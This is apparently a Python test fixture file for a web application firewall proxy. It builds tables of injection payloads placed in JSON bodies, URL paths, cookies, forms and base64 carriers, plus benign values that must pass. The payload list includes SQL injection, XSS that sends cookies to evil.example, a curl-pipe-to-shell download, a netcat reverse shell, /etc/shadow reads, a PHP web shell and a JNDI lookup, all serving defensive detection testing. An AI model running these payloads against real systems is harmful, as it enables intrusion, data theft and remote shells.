"""Fixture tables for the carrier views (issue 15): attack payloads in JSON bodies and URL paths.

Written from first principles (OWASP testing guide shapes, libinjection / CRS regression styles),
not from any hidden set. Each payload is caught by the shipped default web ACL when sent as a
query argument; the tables place the same payload in the carriers the managed groups used to miss.
``BENIGN_*`` are ordinary values in the same carriers: none may ever be blocked.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import quote

from wafproxy.engine.request import WafRequest

PAYLOADS: tuple[str, ...] = (
    "' OR '1'='1",
    "1' OR 1=1--",
    "admin'--",
    "1 UNION SELECT username, password FROM users",
    "1; DROP TABLE users",
    "' AND SLEEP(5)--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "' UNION ALL SELECT NULL,NULL,NULL--",
    "1 AND 1=1 UNION SELECT table_name FROM information_schema.tables",
    "'; EXEC xp_cmdshell('dir')--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.cookie)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert('x')>",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>",
    "javascript:alert(document.domain)",
    '<a href="javascript:alert(1)">x</a>',
    "; cat /etc/passwd",
    "| id",
    "$(whoami)",
    "`uname -a`",
    "&& curl http://evil.example/x.sh | sh",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    '{"$where": "sleep(5000)"}',
    # Whitespace evasions: JSON writes these characters as \t \n \r escapes.
    "1\tUNION\tSELECT\tpassword\tFROM\tusers",
    "1\nUNION\nALL\nSELECT\nNULL,version()--",
    "';\nDROP\tTABLE\tusers;--",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<svg\nonload=alert(1)>",
    "a;\ncat\t/etc/passwd",
    "x\n|\tid",
    "$(cat\t/etc/shadow)",
)


def _req(method: str, path: str, body: bytes = b"", ctype: str = "") -> WafRequest:
    headers = [("Host", "api.example"), ("User-Agent", "python-requests/2.31"), ("Accept", "*/*")]
    if ctype:
        headers += [("Content-Type", ctype), ("Content-Length", str(len(body)))]
    query = ""
    if "?" in path:
        path, _, query = path.partition("?")
    return WafRequest(
        client_ip="198.51.100.9", method=method, uri_path=path, query_string=query,
        headers=tuple(headers), body=body, body_size=len(body),
    )  # fmt: skip


def _json(doc: object, *, ascii_only: bool = False, slashes: bool = False) -> WafRequest:
    text = json.dumps(doc, ensure_ascii=ascii_only)
    if slashes:  # PHP's json_encode and others escape every "/"
        text = text.replace("/", "\\/")
    return _req("POST", "/api/v1/items", text.encode(), "application/json")


def _all_escaped(payload: str) -> WafRequest:
    """Every character of the payload as a ``\\uXXXX`` escape."""
    escaped = "".join(f"\\u{ord(c):04x}" for c in payload)
    return _req("POST", "/api/v1/items", ('{"comment": "' + escaped + '"}').encode(), "application/json")


def _unicode_mixed(payload: str) -> WafRequest:
    return _json({"title": "Привет 世界 🌍", "notes": [{"lang": "ja", "text": "こんにちは " + payload}]})


JSON_PLACEMENTS: dict[str, Callable[[str], WafRequest]] = {
    "root_string": lambda p: _json(p),
    "object_value": lambda p: _json({"q": p}),
    "nested_value": lambda p: _json({"user": {"profile": {"bio": p, "age": 31}}, "ok": True}),
    "array_item": lambda p: _json({"ids": [1, 2], "tags": ["a", p, "c"]}),
    "root_array": lambda p: _json([{"id": 1, "name": p}]),
    "object_key": lambda p: _json({"filter": {p: 1}}),
    "ascii_escaped": lambda p: _json({"data": {"text": p}}, ascii_only=True),
    "slash_escaped": lambda p: _json({"data": [{"text": p}]}, slashes=True),
    "all_u_escaped": _all_escaped,
    "unicode_mixed": _unicode_mixed,
}

PATH_PLACEMENTS: dict[str, Callable[[str], WafRequest]] = {
    "segment": lambda p: _req("GET", "/api/users/" + quote(p, safe="") + "/profile"),
    "last_segment": lambda p: _req("GET", "/files/" + quote(p, safe="")),
    "double_encoded": lambda p: _req("GET", "/api/items/" + quote(quote(p, safe=""), safe="") + "/view"),
    "matrix_param": lambda p: _req("GET", "/shop/item;id=" + quote(p, safe="") + ";v=2/detail"),
    "matrix_second": lambda p: _req("GET", "/app;jsessionid=ab12;q=" + quote(p, safe="")),
}

BENIGN_VALUES: tuple[str, ...] = (
    "Lightweight shoe with a grippy sole, for muddy trails and long distances.",
    "O'Brien",
    "Rock 'n' roll & blues",
    "Select the union of both sets, then drop me a line.",
    "Price: 5 < 10 and 10 > 5",
    "see https://example.com/a?b=1&c=2 for details",
    "email: jane.doe+shop@example.com",
    "C:\\Users\\Jane\\Documents",
    "2024-05-01T12:30:00Z",
    "Привет, как дела? 你好，世界！ مرحبا بالعالم नमस्ते 😀🎉",
    '(wool OR linen) AND NOT "dry clean"',
    "use `git status` and then `git commit -m 'fix'`",
    "# Title\n\n* item one\n* item two\n\n**bold** _it_",
    "100% cotton; machine wash at 30°C",
    "a/b/c",
    "function add(a, b) { return a + b; }",
    "The cat sat on the mat; the dog did not.",
    'Tom & Jerry\'s "Adventure"',
    "id=42&name=shoe",
    "SGVsbG8gd29ybGQ=",
)

BENIGN_PATHS: tuple[str, ...] = (
    "/api/v1/users/42/orders",
    "/blog/2024/05/hello-world",
    "/files/report%20final.pdf",
    "/shop/item;jsessionid=1A2B3C4D;v=2/detail",
    "/wiki/C%2B%2B",
    "/wiki/%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
    "/search/shoes%20size%2042",
    "/users/o'brien/profile",
    "/static/app.3f9a1c.js",
    "/maps/@51.5,-0.12,12z",
    "/docs/a(b)c",
    "/tags/rock-%26-roll",
)


def b64(payload: str, kind: str) -> str:
    """``payload`` base64-encoded: ``std`` / ``url`` alphabet, ``_nopad`` without ``=``."""
    raw = payload.encode()
    text = (base64.urlsafe_b64encode(raw) if kind.startswith("url") else base64.b64encode(raw)).decode()
    return text.rstrip("=") if kind.endswith("_nopad") else text


B64_KINDS = ("std", "std_nopad", "url", "url_nopad")


def _cookie(value: str) -> WafRequest:
    base = _req("GET", "/account")
    headers = (*base.headers, ("Cookie", "session=abc123; prefs=" + value))
    return WafRequest(client_ip=base.client_ip, method="GET", uri_path="/account", headers=headers)


def _multipart(value: str) -> WafRequest:
    body = f'--XyZ\r\nContent-Disposition: form-data; name="data"\r\n\r\n{value}\r\n--XyZ--\r\n'.encode()
    return _req("POST", "/upload", body, "multipart/form-data; boundary=XyZ")


BASE64_PLACEMENTS: dict[str, Callable[[str], WafRequest]] = {
    "query_raw": lambda v: _req("GET", "/search?q=" + v),
    "query_quoted": lambda v: _req("GET", "/search?q=" + quote(v, safe="")),
    "cookie": _cookie,
    "json_value": lambda v: _json({"data": v}),
    "form": lambda v: _req(
        "POST", "/f", ("a=1&data=" + quote(v, safe="")).encode(), "application/x-www-form-urlencoded"
    ),
    "multipart": _multipart,
    "path_segment": lambda v: _req("GET", "/api/d/" + quote(v, safe="")),
    # The whole body one token, under a media type its bytes do not parse as, or none.
    "body_json_type": lambda v: _req("POST", "/api", v.encode(), "application/json"),
    "body_xml_type": lambda v: _req("POST", "/api", v.encode(), "application/xml"),
    "body_text_type": lambda v: _req("PUT", "/blob", v.encode() + b"\n", "text/plain"),
    "body_no_type": lambda v: _req("POST", "/api", v.encode()),
}

BENIGN_BASE64: tuple[str, ...] = (
    "Hello, world! How are you today?",
    "Order #4711 shipped to Berlin (2 items).",
    '{"theme": "dark", "lang": "en-GB"}',
    "user@example.com:2024-05-01",
    "Привет, мир! 你好",
)
